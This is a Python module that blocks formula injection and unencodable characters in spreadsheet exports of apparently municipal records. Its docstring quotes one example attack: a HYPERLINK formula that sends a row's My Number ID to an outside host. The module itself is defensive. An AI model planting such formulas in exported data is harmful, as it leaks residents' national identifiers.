"""What may leave the office: no text a spreadsheet would run as a formula, no character the export's
encoding cannot carry unchanged. Pure: canonical and raw values in; findings, notices and problems out.

- Formula text: a value beginning with =, +, -, @, a tab or a CR (or a full-width =, +, -, @), in its
  canonical form (NFKC, spaces trimmed: so "\t=1+1", whose tab an export trims, is caught as "=1+1"). The
  receiving municipality's Excel would run it, e.g. =HYPERLINK("http://…?n="&I2) sending row 2's My Number
  away. Unfit to seal (seal.problems), a blocking finding (check: kind "formula"), refused by export, which
  looks again at exactly what it would write. A column marked `signed` in the rules may hold plain numbers
  with a sign (a negative amount is a number, not a formula); anything else there is still formula text.
- Encodings: a character the export's encoding cannot write (cp932: 𠮷, emoji, variation selectors, NBSP,
  accented Latin), or writes as another one (cp932 writes 〜 U+301C, − U+2212, ¢ U+00A2 and reads them
  back as ～ U+FF5E, － U+FF0D, ￠ U+FFE0). A notice from seal and check (the list is as sealed; only its
  export in that encoding cannot be), refused by export before anything is written. Never substituted.
"""
from __future__ import annotations

from dataclasses import replace
from functools import lru_cache
from typing import TYPE_CHECKING

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

from ..text.messages import unsafe_text
from .errors import ExportRefused
from .kinds.values import arrow

if TYPE_CHECKING:
    from ..text.messages import Messages
    from .check import Report
    from .rules import Rules

_ASCII = np.frombuffer("=+-@\t\r".encode(), np.uint8)
_WIDE = np.array([w.encode()[2] for w in "＝＋－＠"], np.uint8)      # U+FF1D, U+FF0B, U+FF0D, U+FF20: EF BC xx
_SIGNED_NUMBER = "^[-+][0-9]+(\\.[0-9]+)?$"
TYPED = ("text", "kana")         # kinds exported as staff typed them (trimmed), not in canonical form


def as_typed(raw: pd.Series) -> pa.Array:
    """Names and addresses as staff typed them, trimmed: what an export writes for text and kana columns."""
    return pc.utf8_trim_whitespace(arrow(raw))


def _buffers(arr: pa.Array):
    """(array as large_string, its offsets, its UTF-8 data as uint8), or None when it holds no text."""
    arr = pc.cast(arr, pa.large_string()) if not pa.types.is_large_string(arr.type) else arr
    if len(arr) == 0 or arr.buffers()[2] is None:
        return None
    offsets = np.frombuffer(arr.buffers()[1], np.int64)[arr.offset:arr.offset + len(arr) + 1]
    return arr, offsets, np.frombuffer(arr.buffers()[2], np.uint8)


def formula_positions(values: pa.Array, signed: bool = False) -> np.ndarray:
    """Positions of the values a spreadsheet would take as a formula, from each value's first bytes in the
    Arrow buffers (no string per value). With `signed`, a plain number with a sign (-5000) is a number."""
    found = _buffers(values)
    if found is None:
        return np.zeros(0, np.int64)
    values, offsets, data = found
    start, size = offsets[:-1], np.diff(offsets)
    first = np.zeros(len(values), np.uint8)
    some = size > 0
    first[some] = data[start[some]]
    hit = some & np.isin(first, _ASCII)
    wide = np.flatnonzero((first == 0xEF) & (size >= 3))
    if len(wide):
        hit[wide] = (data[start[wide] + 1] == 0xBC) & np.isin(data[start[wide] + 2], _WIDE)
    at = np.flatnonzero(hit)
    if signed and len(at):
        number = pc.match_substring_regex(values.take(pa.array(at, pa.int64())), _SIGNED_NUMBER)
        at = at[~number.to_numpy(zero_copy_only=False)]
    return at


def formula_cells(values: dict, rules: Rules) -> list:
    """(column, positions) for each column of `values` ({name: string array}) holding formula text, in
    rule order."""
    out = []
    for c in rules.columns:
        if c.name in values:
            pos = formula_positions(values[c.name], c.signed)
            if len(pos):
                out.append((c.name, pos))
    return out


@lru_cache(maxsize=None)
def _carried(ch: str, encoding: str):
    """True if `encoding` writes `ch` and reads it back unchanged; else what it reads back (None: `ch`
    cannot be written at all)."""
    try:
        back = ch.encode(encoding).decode(encoding)
    except UnicodeError:
        return None
    return True if back == ch else back


def _chars(arr: pa.Array) -> list:
    """The distinct characters of a string array: its data buffer decoded once, as UTF-32 code points,
    counted with numpy (a Python set of a million characters costs several times more)."""
    found = _buffers(arr)
    if found is None:
        return []
    _, offsets, data = found
    text = data[int(offsets[0]):int(offsets[-1])].tobytes().decode("utf-8")
    points = np.frombuffer(text.encode("utf-32-le"), np.uint32)
    return [chr(c) for c in np.flatnonzero(np.bincount(points)).tolist()] if len(points) else []


def uncarried(values: dict, encoding: str) -> list:
    """(column, character, what it becomes or None if it cannot be written, positions) for every character
    in `values` ({name: string array}) that `encoding` does not carry unchanged; by column, then by where
    each character first appears. A column of plain ASCII costs one scan."""
    out = []
    for col, arr in values.items():
        if len(arr) == 0 or pc.all(pc.string_is_ascii(arr)).as_py():
            continue
        bad = {ch: b for ch in _chars(arr) if (b := _carried(ch, encoding)) is not True}
        if not bad:
            continue
        pattern = "[" + "".join(f"\\x{{{ord(ch):X}}}" for ch in bad) + "]"
        hit = np.flatnonzero(pc.match_substring_regex(arr, pattern).to_numpy(zero_copy_only=False))
        at = {}
        for p, v in zip(hit.tolist(), arr.take(pa.array(hit, pa.int64())).to_pylist()):
            for ch in dict.fromkeys(v):
                if ch in bad:
                    at.setdefault(ch, []).append(p)
        out += [(col, ch, bad[ch], np.asarray(pos, np.int64)) for ch, pos in sorted(at.items(), key=lambda i: i[1][0])]
    return out


def carried_values(raw: pd.DataFrame, canon: pd.DataFrame, rules: Rules) -> dict:
    """What an export writes of each export column, before dates and postal codes are formatted (which adds
    only the rules' own date_format and a hyphen, looked at again when the export runs)."""
    return {c: as_typed(raw[c]) if rules.column(c).kind in TYPED else arrow(canon[c]) for c in rules.export["columns"]}


def notices(raw: pd.DataFrame, canon: pd.DataFrame, rules: Rules, rows: np.ndarray | list, msg: Messages) -> list:
    """(notice, Excel rows, columns, message): one per column holding characters the rules' export encoding
    cannot carry unchanged, its message naming each character with its rows."""
    enc, rows = rules.export["encoding"], np.asarray(rows)
    by_col = {}
    for col, ch, becomes, pos in uncarried(carried_values(raw, canon, rules), enc):
        by_col.setdefault(col, []).append((ch, becomes, rows[pos].tolist()))
    return [("encoding", sorted({r for _, _, at in chars for r in at}), [col], msg.uncarried(col, chars, enc))
            for col, chars in by_col.items()]


def unfit(canon: pd.DataFrame, rows: np.ndarray | list, rules: Rules, positions: np.ndarray | list) -> list:
    """seal.problems' items for formula text among `positions`: (column, "formula", Excel rows)."""
    out = []
    for col, pos in formula_cells({c: arrow(canon[c]) for c in rules.names}, rules):
        pos = np.intersect1d(pos, positions)
        if len(pos):
            out.append((col, "formula", np.asarray(rows)[pos].tolist()))
    return out


def screened(report: Report, raw: pd.DataFrame, rules: Rules, rows: np.ndarray | list, msg: Messages) -> Report:
    """The check's report with what must not leave the office added: formula text as findings of kind
    "formula" (they block) with their cause, and the encoding's notices (they do not)."""
    cells = formula_cells({c: arrow(report.canon[c]) for c in rules.names}, rules)
    notes = notices(raw, report.canon, rules, rows, msg)
    if not cells and not notes:
        return report
    findings, diagnosis = report.findings, report.diagnosis
    if cells:
        where = {}
        for col, pos in cells:
            for p in pos.tolist():
                where.setdefault(p, []).append(col)
        at = sorted(where)
        excel = np.asarray(rows)[at].tolist()
        new = pd.DataFrame([(r, "formula", where[p], None, None, msg.formula(r, where[p])) for p, r in zip(at, excel)],
                           columns=findings.columns)
        findings = _joined(findings, new).sort_values(["row", "kind"], na_position="last", kind="stable")
        findings = findings.reset_index(drop=True)
        cols = [c for c, _ in cells]
        diagnosis = _joined(diagnosis, pd.DataFrame([("formula", excel, cols, None, msg.cause("formula", excel, cols))],
                                                    columns=diagnosis.columns))
    notices_ = _joined(report.notices, pd.DataFrame(notes, columns=report.notices.columns))
    return replace(report, status="clean" if findings.empty else "blocked", findings=findings, diagnosis=diagnosis,
                   notices=notices_)


def _joined(a: pd.DataFrame, b: pd.DataFrame) -> pd.DataFrame:
    if a.empty:
        return b.reset_index(drop=True)
    return a if b.empty else pd.concat([a, b], ignore_index=True)


def refuse(values: pa.Table, rows: np.ndarray | list, rules: Rules, encoding: str | None) -> None:
    """Raise ExportRefused, before anything is written, if what an export would write holds formula text,
    or (`encoding` given: a text file) characters that encoding cannot carry unchanged."""
    arrays = {c: values.column(c).combine_chunks() for c in values.column_names}
    rows = np.asarray(rows)
    cells = formula_cells(arrays, rules)
    if cells:
        raise refusal("formula", [(col, rows[pos].tolist()) for col, pos in cells])
    bad = uncarried(arrays, encoding) if encoding else []
    if bad:
        raise refusal("encoding", [(col, ch, becomes, rows[pos].tolist()) for col, ch, becomes, pos in bad], encoding)


def refusal(reason: str, items: list, encoding: str | None = None) -> ExportRefused:
    """The export's refusal: `reason` formula (items: column, Excel rows), encoding (column, character, what
    it becomes or None, Excel rows) or file_name (destination, file name, FILE_NAME_PROBLEMS key)."""
    return ExportRefused(why=unsafe_text(reason, items, "en", encoding=encoding), reason=reason, items=items,
                         encoding=encoding)
